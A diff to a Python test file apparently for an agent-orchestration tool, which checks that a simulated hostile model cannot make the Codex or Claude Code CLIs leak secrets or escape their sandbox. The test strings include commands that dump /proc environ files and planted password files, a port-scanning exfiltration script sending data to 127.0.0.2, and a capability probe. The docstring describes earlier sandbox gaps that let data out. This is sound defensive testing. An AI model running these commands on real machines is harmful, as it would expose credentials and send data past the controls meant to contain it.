@@ -12,14 +12,26 @@ evidence. Afterwards no planted secret is in what the model was sent, nor in a
 the cited text itself is stored. With ``COUNCIL_AGENT_SANDBOX=off`` the same
 run leaks the home's passwords (the control case), so the check is known to see a
 leak; before the provider proxy, ``env`` alone printed the key.
+
+An agent CLI reaches its proxy and nothing else, and holds no capability (issue 44):
+the workers run as root here. A listener waits on 127.0.0.2 at every port a worker's
+process listens on (the attempt's proxy among them); the hostile model makes Codex find
+its proxy's port and send data to 127.0.0.2 at that port, and show its shell's
+``CapEff``; Claude Code ``Read``s its own ``/proc/self/status`` and ``/proc/self/net/tcp``
+(the sockets it can see). Before each CLI had a network namespace of its own, Codex's
+data arrived (the Landlock rule was per port, not per host), Claude Code saw the
+listener among the host's sockets, and both held every root capability.
 """
 
 from __future__ import annotations
 
+import contextlib
 import json
 import re
 import shutil
+import socket
 import subprocess
+import threading
 import uuid
 from collections.abc import Iterator
 from contextlib import ExitStack, contextmanager
@@ -27,6 +39,7 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import psutil
 import pytest
 from sqlalchemy import Engine
 
@@ -71,6 +84,89 @@ def secrets() -> dict[str, str]:
     }
 
 
+class Listener:
+    """Listens on 127.0.0.2 at each port a process tree listens on at 127.0.0.1 (found by
+    polling while the run goes on: the attempt's proxy takes its port when the attempt
+    starts), and keeps what any connection sends."""
+
+    def __init__(self) -> None:
+        self.ports: set[int] = set()
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._sockets: list[socket.socket] = []
+        self._threads: list[threading.Thread] = []
+
+    @contextmanager
+    def watching(self, pid: int) -> Iterator[Listener]:
+        poller = threading.Thread(target=self._poll, args=(pid,), daemon=True)
+        poller.start()
+        try:
+            yield self
+        finally:
+            self._stop.set()
+            poller.join(5)
+            for sock in self._sockets:
+                sock.close()
+
+    def _poll(self, pid: int) -> None:
+        while not self._stop.wait(0.05):
+            try:
+                tree = psutil.Process(pid)
+                pids = {pid, *(child.pid for child in tree.children(recursive=True))}
+                found = {
+                    c.laddr.port
+                    for c in psutil.net_connections(kind="tcp")
+                    if c.pid in pids and c.status == psutil.CONN_LISTEN and c.laddr.ip == "127.0.0.1"
+                }
+            except (psutil.Error, OSError):
+                continue
+            for port in found - self.ports:
+                self.ports.add(port)
+                with contextlib.suppress(OSError):
+                    sock = socket.create_server(("127.0.0.2", port))
+                    self._sockets.append(sock)
+                    threading.Thread(target=self._accept, args=(sock,), daemon=True).start()
+
+    def _accept(self, sock: socket.socket) -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                conn, _ = sock.accept()
+                with conn:
+                    conn.settimeout(5)
+                    with contextlib.suppress(OSError):
+                        self.received.append(conn.recv(65536))
+
+
+# Codex's shell finds the port it may connect to (its proxy's: the only one the sandbox lets
+# it reach on 127.0.0.1) and sends to 127.0.0.2 at that port.
+EXFILTRATE = """/usr/bin/python3 -c '
+import socket
+for port in range(1024, 65536):
+    with socket.socket() as probe:
+        probe.settimeout(0.2)
+        if probe.connect_ex(("127.0.0.1", port)) != 0:
+            continue
+    print("proxy port=%d" % port)
+    try:
+        with socket.create_connection(("127.0.0.2", port), timeout=2) as out:
+            out.sendall(b"EXFILTRATED")
+        print("sent to 127.0.0.2:%d" % port)
+    except OSError as exc:
+        print("127.0.0.2:%d out of reach: %s" % (port, exc))
+    break
+'"""
+# Its capabilities, by capget (a child of the CLI reads no /proc/<pid> but the CLI's own; under
+# no_new_privs a child holds at most what the CLI holds).
+CAPABILITIES = """/usr/bin/python3 -c '
+import ctypes, platform
+header = (ctypes.c_uint32 * 2)(0x20080522, 0)
+data = (ctypes.c_uint32 * 6)()
+ctypes.CDLL(None).syscall({"x86_64": 125, "aarch64": 90}[platform.machine()], header, data)
+print("CapEff:\t%08x%08x" % (data[3], data[0]))
+'"""
+_CAP_EFF = re.compile(r"CapEff:(?:\\t|\s)+([0-9a-f]{16})")
+
+
 def _plant_home(home: Path, secrets: dict[str, str]) -> list[Path]:
     stack = home / "stack.json"
     stack.write_text(
@@ -106,10 +202,16 @@ def _hostile_models(
 
 
 def _run_hostile(
-    engine: Engine, workers: Workers, env: dict[str, str], tmp_path: Path, secrets: dict[str, str]
+    engine: Engine,
+    workers: Workers,
+    env: dict[str, str],
+    tmp_path: Path,
+    secrets: dict[str, str],
+    listener: Listener | None = None,
 ) -> tuple[dict[str, Any], dict[str, Recorder], list[str]]:
     """Dispatch codex and claude on a thread while the hostile models are serving; (the dispatch's
-    document, the requests each model received, everything printed or served)."""
+    document, the requests each model received, everything printed or served). ``listener``
+    waits on 127.0.0.2 at the worker's ports meanwhile."""
     home = Path(env["COUNCIL_HOME"])
     planted = _plant_home(home, secrets)
     ledger = Ledger.new(engine, evidence_items=2)
@@ -123,11 +225,13 @@ def _run_hostile(
         targets = [f"/proc/{worker.pid}/environ", *map(str, planted)]
         commands += ["env", "cat /proc/*/environ 2>&1 | tr '\\0' '\\n'"]
         commands += [f"cat {t} 2>&1 | tr '\\0' '\\n'" for t in targets]
-        paths += ["/proc/self/environ", *targets]
-        done = council(
-            env, "dispatch", "--thread", str(ledger.thread_id), "--agents", "codex,claude",
-            "--wait", "--timeout", "300", "--json",
-        )  # fmt: skip
+        commands += [EXFILTRATE, CAPABILITIES]
+        paths += ["/proc/self/environ", *targets, "/proc/self/status", "/proc/self/net/tcp"]
+        with listener.watching(worker.pid) if listener is not None else contextlib.nullcontext():
+            done = council(
+                env, "dispatch", "--thread", str(ledger.thread_id), "--agents", "codex,claude",
+                "--wait", "--timeout", "300", "--json",
+            )  # fmt: skip
         printed += [done.stdout, done.stderr]
         assert done.returncode in (0, 1), done.stderr
         result = json.loads(done.stdout)
@@ -184,8 +288,10 @@ def test_a_hostile_model_finds_no_secret_through_either_cli(
     secrets: dict[str, str],
     tmp_path: Path,
 ) -> None:
-    # Given the workers' keys and tokens, Council's home with passwords, a hostile model
-    result, seen, printed = _run_hostile(engine, workers, hostile_env, tmp_path, secrets)
+    # Given the workers' keys and tokens, Council's home with passwords, a hostile model, and a
+    # listener on 127.0.0.2 at each port the worker listens on
+    listener = Listener()
+    result, seen, printed = _run_hostile(engine, workers, hostile_env, tmp_path, secrets, listener)
     # Then both runs went through, each CLI ran every hostile step and cited what it saw
     assert sorted((r["agent"], r["status"]) for r in result["runs"]) == [
         ("claude", "succeeded"),
@@ -219,6 +325,19 @@ def test_a_hostile_model_finds_no_secret_through_either_cli(
     assert LOOT.encode() in places["pg_dump"]
     places.update({f"printed {n}": text.encode() for n, text in enumerate(printed)})
     assert _leaks(secrets, places) == []
+    # And Codex found its proxy's port, but 127.0.0.2 at that port was out of its reach
+    found = re.findall(r"proxy port=(\d+)", codex_sent)
+    assert found and int(found[0]) in listener.ports, (found, listener.ports)
+    assert not re.search(r"sent to 127\.0\.0\.2:\d", codex_sent) and listener.received == [], (
+        listener.received
+    )
+    assert re.search(r"127\.0\.0\.2:\d+ out of reach", codex_sent)
+    # And Claude Code saw no socket of the host: not the listener at its proxy's port
+    assert "local_address" in claude_sent
+    assert not [p for p in listener.ports if f"0200007F:{p:04X}" in claude_sent], listener.ports
+    # And neither CLI held a capability, though the worker runs as root
+    for sent in (codex_sent, claude_sent):
+        assert set(_CAP_EFF.findall(sent)) == {"0" * 16}, _CAP_EFF.findall(sent)
     # And the attempt's own dummy key (worthless once the attempt ended) was redacted all the same
     attempt_key = re.compile(rb"council-no-key-[0-9a-f]{32}")
     assert attempt_key.search(codex_sent.encode())
